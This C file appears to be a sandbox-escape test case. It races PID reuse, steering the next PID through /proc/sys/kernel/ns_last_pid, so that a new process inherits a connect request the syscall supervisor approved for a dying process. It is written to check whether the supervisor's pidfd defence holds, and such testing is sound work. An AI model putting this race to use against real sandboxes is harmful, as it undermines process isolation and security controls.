// row:    N2
// tries:  threads die during `connect`, and other threads get their ids
// shield: the supervisor opens the pidfd first, checks the notification after each read, and acts on the duplicate
// native: contained: the attack needs a supervisor
#include "escape.h"

// The next process gets the number `next`, where we may say so.
static void steer(pid_t next) {
  int file = open("/proc/sys/kernel/ns_last_pid", O_WRONLY);
  char text[16];
  int length = snprintf(text, sizeof text, "%d", next - 1);
  if (file >= 0 && write(file, text, length) < 0) errno = 0;
  if (file >= 0) close(file);
}

static void *connects(void *fd) {
  place to = permitted4();
  connect_to((int)(intptr_t)fd, &to);
  return NULL;
}

int main(void) {
  int rounds = 0;
  for (long end = race_end(); milliseconds() < end; rounds++) {
    // The victim has a socket with the same number as the attacker's.
    int fd = new_socket(AF_INET, SOCK_STREAM);
    pid_t attacker = fork();
    if (attacker == 0) {
      fd = dup2(new_socket(AF_INET, SOCK_STREAM), fd);
      start_thread(connects, (void *)(intptr_t)fd);
      for (volatile int spin = rounds % 50 * 400; spin > 0; spin--) {
      }
      _exit(CONTAINED);
    }
    waitpid(attacker, NULL, 0);
    steer(attacker);
    pid_t victim = fork();
    if (victim == 0) {
      pause_for(1);
      _exit(connected(fd) ? ESCAPED : CONTAINED);
    }
    int status;
    waitpid(victim, &status, 0);
    if (WEXITSTATUS(status) == ESCAPED) granted("a connection that somebody else asked for");
    close(fd);
  }
  contained("%d rounds", rounds);
}
